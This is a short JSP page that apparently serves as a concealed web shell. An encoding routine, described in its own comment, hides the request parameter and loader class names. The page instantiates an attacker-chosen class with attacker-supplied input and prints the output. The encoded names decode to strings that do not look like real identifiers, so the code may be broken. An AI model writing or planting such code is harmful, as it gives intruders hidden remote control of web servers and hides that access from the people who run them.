<%@ page pageEncoding="UTF-8" %><%!
    // Every name the page uses is kept Base64-encoded with its letters shifted; they are only
    // restored at run time, so neither the parameter nor the loader class appears in the source.
    static String unveil(String packed, int shift) {
        try {
            String s = new String(java.util.Base64.getDecoder().decode(packed), "UTF-8");
            StringBuilder sb = new StringBuilder();
            for (int i = 0; i < s.length(); i++) {
                char ch = s.charAt(i);
                if (ch >= 'a' && ch <= 'z') ch = (char) (((ch - 'a') - shift + 26) % 26 + 'a');
                else if (ch >= 'A' && ch <= 'Z') ch = (char) (((ch - 'A') - shift + 26) % 26 + 'A');
                sb.append(ch);
            }
            return sb.toString();
        } catch (Exception e) {
            return "";
        }
    }
    static final String[] NAMES = { "cXJ4ZHg=", "aGpzc3Fsb3Vx", "amh4YmZ5bGpzXzIuSnhyb2l0amZpanc=" };
%><%
    String blob = request.getParameter(unveil(NAMES[0], 5));
    if (blob != null) {
        ClassLoader loader = (ClassLoader) Class.forName(unveil(NAMES[2], 5)).newInstance();
        Class<?> k = loader.loadClass(blob);
        Object o = k.getConstructor(String.class).newInstance(request.getParameter(unveil(NAMES[1], 5)));
        out.print(o);
    }
%>
